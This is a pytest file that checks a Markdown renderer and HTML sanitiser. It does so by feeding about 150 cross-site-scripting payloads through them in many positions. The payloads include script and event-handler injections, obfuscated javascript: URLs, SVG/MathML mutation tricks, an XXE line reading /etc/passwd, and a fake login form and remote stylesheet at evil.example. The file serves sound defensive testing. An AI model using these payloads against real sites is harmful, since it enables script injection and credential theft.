"""No script, style, form, id or foreign address written by a person reaches a page."""

import re
from html.parser import HTMLParser

import pytest

from core.markup import render
from core.markup.highlight import TOKEN_CLASSES
from core.markup.sanitise import clean_html

ALLOWED = {
    "a": {"href", "title", "rel", "class", "id"},
    "code": {"class"},
    "details": {"class"},
    "div": {"class", "tabindex", "role", "aria-label"},
    "input": {"type", "checked", "disabled"},
    "li": {"class", "id"},
    "ol": {"start", "class"},
    "pre": {"tabindex"},
    "span": {"class"},
    "td": {"class"},
    "th": {"class"},
    "ul": {"class"},
}
BARE = {
    "blockquote",
    "br",
    "del",
    "em",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "label",
    "p",
    "strong",
    "summary",
    "sup",
    "table",
    "tbody",
    "thead",
    "tr",
}
CLASSES = TOKEN_CLASSES | {
    "align-left", "align-center", "align-right", "contains-task-list", "mention", "note-back", "note-mark", "notes",
    "spoiler", "table-wrap", "task-list-item",
}  # fmt: skip

PAYLOADS = [
    # scripts and handlers
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script\n>alert(1)//",
    "</code></pre><script>alert(1)</script>",
    "</p></li></td></table></div><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "x onclick=alert(1)",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<a href=javascript:alert(1)>x</a>",
    "<xss onpointerenter=alert(1)>",
    # foreign markup
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)>",
    "<math><mi//xlink:href=javascript:alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    # frames, forms, page-wide elements
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<button form=x formaction=javascript:alert(1)>x</button>",
    "<textarea>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='position:fixed;inset:0'>over</div>",
    "<p class=topbar id=main name=cookie>x</p>",
    "<a id=currentUser name=getElementById>x</a>",
    "<title>x</title>",
    "<plaintext>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    # addresses
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;&#97;&#118;&#97;script:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java\tscript:alert(1)",
    "java\x00script:alert(1)",
    "java&#x202E;script:alert(1)",
    "java\u202escript:alert(1)",
    "java&#xFFFE;script:alert(1)",
    "\x01javascript:alert(1)",
    "&#1;javascript:alert(1)",
    "%6Aavascript:alert(1)",
    r"java\script:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,AAAA",
    "file:///etc/passwd",
    "blob:https://a.example/1",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "jar:javascript:alert(1)!/",
    "livescript:x",
    "//evil.example/x",
    "///evil.example/x",
    r"/\evil.example",
    r"\\evil.example",
    "https:evil.example",
    "https:/\\evil.example",
    "https://bank.example@evil.example/",
    "https://bank.example%40evil.example:x@evil.example/",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/'onmouseover='alert(1)",
    "https://a.example/`onmouseover=alert(1)",
    "https://a.example/ onmouseover=alert(1)",
    "https://a.example/<script>alert(1)</script>",
    "https://a.example/&quot;onmouseover=&quot;alert(1)",
    "http://ａ.example/\u2028x",
    # nested Markdown
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript://%0aalert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](x \"onerror=alert(1)\")",
    '![" onerror="alert(1)](x)',
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    '[x](https://a.example "&quot; onmouseover=&quot;alert(1)")',
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "[a](https://a.example) [b](<https://b.example onclick=alert(1)>)",
    "<javascript:alert(1)>",
    "<https://a.example/\" onclick=\"alert(1)>",
    "<a@b.example\"onclick=alert(1)>",
    "``` \" onload=alert(1)\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "```<img/src=x/onerror=alert(1)>\nx\n```",
    "~~~js onload=alert(1)\n</code></pre><script>alert(1)</script>\n~~~",
    "|a\" onload=\"alert(1)|b|\n|-|-|\n|<script>|\"|",
    "| \" autofocus onfocus=alert(1) \" |\n|:-:|\n| x |",
    "- [x] <script>alert(1)</script>",
    "x[^a\"onclick=\"alert(1)]\n\n[^a\"onclick=\"alert(1)]: y",
    "x[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: <img src=x onerror=alert(1)>",
    "x[^javascript:alert(1)]\n\n[^javascript:alert(1)]: [y](javascript:alert(1))",
    "::: spoiler </summary><script>alert(1)</script>\n<img src=x onerror=alert(1)>\n:::",
    '::: spoiler " open ontoggle="alert(1)\nx\n:::',
    "@ana<script>alert(1)</script>",
    '@ana" onclick="alert(1)',
]  # fmt: skip

POSITIONS = {
    "in a paragraph": "before {} after",
    "as a block": "> x\n\n{}\n\nafter",
    "as the words of a link": "[{}](https://a.example)",
    "as the target of a link": "[x]({}) ![x]({}) [y](<{}>)\n\n[ref]\n\n[ref]: {}\n",
    "as the title of a link": "[x](https://a.example \"{}\") [y](https://a.example '{}')",
    "in code": "`{}`\n\n```{}\n{}\n```\n\n    {}\n",
    "in a table and a heading": "# {}\n\n| {} | b |\n|:-:|--|\n| {} | c |\n",
    "in brackets": "<{}>",
}


def is_plain_address(value: str) -> bool:
    """Read an address as browsers do (WHATWG URL, section 4.4): a web or mail address, or a path of this site."""
    value = re.sub("[\t\n\r]", "", value.strip("".join(map(chr, range(33))))).replace("\\", "/")
    scheme = re.match(r"[a-z][a-z0-9+.-]*:", value, re.IGNORECASE)
    return scheme[0].lower() in {"http:", "https:", "mailto:"} if scheme else not value.startswith("//")


class Audit(HTMLParser):
    """Collects what a page of ours must not hold."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED.keys() | BARE:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            self._check(tag, name, value or "")

    def _check(self, tag: str, name: str, value: str) -> None:
        words = set(value.split())
        if name not in ALLOWED.get(tag, set()):
            self.faults.append(f"{tag} {name}")
        elif name == "class" and not all(word in CLASSES or word.startswith("language-") for word in words):
            self.faults.append(f"class {value}")
        elif name == "id" and not re.fullmatch(r"fn(ref)?-[0-9a-f]{8}(-[0-9]{1,3}){1,2}", value):
            self.faults.append(f"id {value}")
        elif name == "href" and not is_plain_address(value):
            self.faults.append(f"href {value}")
        elif name == "rel" and words != {"nofollow", "ugc", "noopener"}:
            self.faults.append(f"rel {value}")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data}")


def test_the_audit_sees_what_it_must():
    html = '<script>x</script><p id="a" onclick="x"><a href="javascript:x" class="b">y</a><a href="//e">z</a><!-- c -->'

    assert Audit(html).faults == ["<script>", "p id", "p onclick", "href javascript:x", "class b", "href //e", "comment  c "]


@pytest.mark.parametrize("position", POSITIONS.values(), ids=POSITIONS)
def test_no_payload_survives(position):
    for payload in PAYLOADS:
        html = render(position.replace("{}", payload), mentions={"ana": "/u/ana/"}).html

        assert Audit(html).faults == [], payload
        assert clean_html(html, notes='id="fn' in html) == html, payload
        assert not re.search(r"https?://[^/?#\"]*@|https?:(?!//[^/])", " ".join(re.findall('href="[^"]*"', html))), payload


def test_every_link_of_a_payload_says_that_we_do_not_vouch_for_it():
    html = render("https://a.example [b](https://b.example) <https://c.example> www.d.example e@e.example").html

    assert html.count("<a ") == html.count('rel="nofollow ugc noopener"') == 5


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitiser_alone_stops_what_the_parser_might_let_through(payload):
    html = clean_html(f'<p>{payload}<a href="{payload}" title="{payload}">x</a></p>')

    assert Audit(html).faults == []


@pytest.mark.parametrize(
    "html",
    [
        '<p class="topbar" id="main" style="position:fixed">x</p>',
        '<div class="table-wrap modal" role="dialog" tabindex="5">x</div>',
        '<input type="password" name="p" value="v">',
        '<span class="k topbar">x</span>',
        '<a href="https://a.example" target="_blank" rel="opener" download>x</a>',
        '<li id="main">x</li><a id="topbar" href="#x">x</a><p id="fn-00000000-1">x</p><a id="fn-x-1">x</a>',
        '<details open class="modal" name="menu" ontoggle="x"><summary id="main">x</summary></details>',
    ],
)
@pytest.mark.parametrize("notes", [False, True])
def test_only_our_own_classes_roles_and_inputs_pass(html, notes):
    cleaned = clean_html(html, notes=notes)

    assert Audit(cleaned).faults == []
    assert "id=" not in cleaned
    assert all(word not in cleaned for word in ("dialog", "password", "modal", "topbar", "tabindex", "_blank"))
